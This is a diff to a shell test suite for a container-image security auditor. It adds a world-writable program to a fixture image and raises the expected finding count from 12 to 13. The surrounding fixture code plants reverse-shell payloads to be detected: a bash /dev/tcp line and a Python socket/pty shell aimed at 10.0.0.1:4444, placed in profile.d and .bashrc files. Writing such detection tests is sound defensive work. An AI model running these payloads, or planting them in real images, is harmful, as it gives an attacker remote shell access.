@@ -172,7 +172,7 @@ check "Entrypoint a plain string naming an added script: entrypoint-wrapper Medi
 
 # ---- 3. one image per other indicator ----
 L=$T/ind
-mkdir -p "$L/etc/profile.d" "$L/home/app" "$L/usr/local/bin" "$L/usr/bin" "$L/etc/cron.d" \
+mkdir -p "$L/etc/profile.d" "$L/home/app" "$L/usr/local/bin" "$L/usr/local/sbin" "$L/usr/bin" "$L/etc/cron.d" \
 	"$L/var/spool/cron/crontabs" "$L/root/.ssh" "$L/etc" "$L/usr/local/share/x"
 echo 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 &' >"$L/etc/profile.d/zz-update.sh"
 printf '# ~/.bashrc\nalias ll="ls -l"\npython3 -c '"'"'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'"'"'\n' \
@@ -190,6 +190,8 @@ echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx6d1J0c3RrZXlmb3J0ZXN0aW5nb25seTAwMD
 TOOR_LINE=$(wc -l <"$L/etc/passwd")
 chmod 0777 "$L/usr/local/bin"
 chmod 0777 "$L/usr/local/share/x"
+printf '#!/bin/sh\necho tool\n' >"$L/usr/local/sbin/tool"
+chmod 0777 "$L/usr/local/sbin/tool"
 oci_from_dirs "$T/ind" "$B" "$L"
 oci_config "$T/ind" ".history = $(hist 1) | .config = {Env: [\"LD_LIBRARY_PATH=/tmp/lib:/usr/lib\"], Cmd: [\"/usr/bin/app\"]}"
 audit "oci:$T/ind:t" "$T/ind.json"
@@ -209,7 +211,8 @@ check "world-writable-dir usr/local/bin layer 1 High" has "$T/ind.json" world-wr
 check "world-writable-dir usr/local/share/x" has "$T/ind.json" world-writable-dir usr/local/share/x 1 High
 check "no world-writable-dir for tmp (sticky)" bash -c "! jq -e '.findings[] | select(.path == \"tmp\")' '$T/ind.json'"
 check "env-ld-preload (LD_LIBRARY_PATH /tmp/lib) on the config, Medium" has "$T/ind.json" env-ld-preload null -1 Medium
-check_eq "indicators image: exactly these 12 findings" 12 "$(count "$T/ind.json")"
+check "world-writable-file usr/local/sbin/tool (a program) High" has "$T/ind.json" world-writable-file usr/local/sbin/tool 1 High
+check_eq "indicators image: exactly these 13 findings" 13 "$(count "$T/ind.json")"
 
 # a reverse-shell cron job a later layer deleted: still found, deleted
 L2=$T/del1 L3=$T/del2
